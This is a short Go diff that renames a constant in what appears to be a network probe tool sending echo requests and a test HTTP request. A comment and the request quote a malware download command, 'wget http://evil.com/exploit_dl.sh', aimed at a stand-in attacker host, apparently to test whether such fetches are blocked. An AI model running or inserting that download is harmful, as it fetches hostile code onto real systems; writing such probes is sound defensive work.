@@ -14,8 +14,8 @@ import (
 const (
 	// patience bounds one try.
 	patience = time.Second
-	// word is what is sent and wanted back.
-	word = "bulwark prove\n"
+	// greeting is what is sent and wanted back.
+	greeting = "bulwark prove\n"
 	// Script is what the malware of the talk asks for: wget http://evil.com/exploit_dl.sh
 	Script = "/exploit_dl.sh"
 )
@@ -50,9 +50,9 @@ var (
 	errOdd    = errors.New("answered by something else")
 )
 
-// stream sends a word and waits for it to come back.
+// stream sends a greeting and waits for it to come back.
 func stream(kind, address string, end time.Time) error {
-	question, network := word, kind
+	question, network := greeting, kind
 	if kind == "http" {
 		question = "GET " + Script + " HTTP/1.0\r\nHost: evil.com\r\nUser-Agent: Wget\r\n\r\n"
 		network = "tcp"
@@ -146,7 +146,7 @@ func sockaddr(ip net.IP) unix.Sockaddr {
 // request is an echo request (RFC 792, RFC 4443). The kernel computes the
 // checksum for IPv6.
 func request(ipv6 bool) []byte {
-	b := append([]byte{8, 0, 0, 0, 0xb, 0xad, 0, 1}, word...)
+	b := append([]byte{8, 0, 0, 0, 0xb, 0xad, 0, 1}, greeting...)
 	if ipv6 {
 		b[0] = 128
 		return b
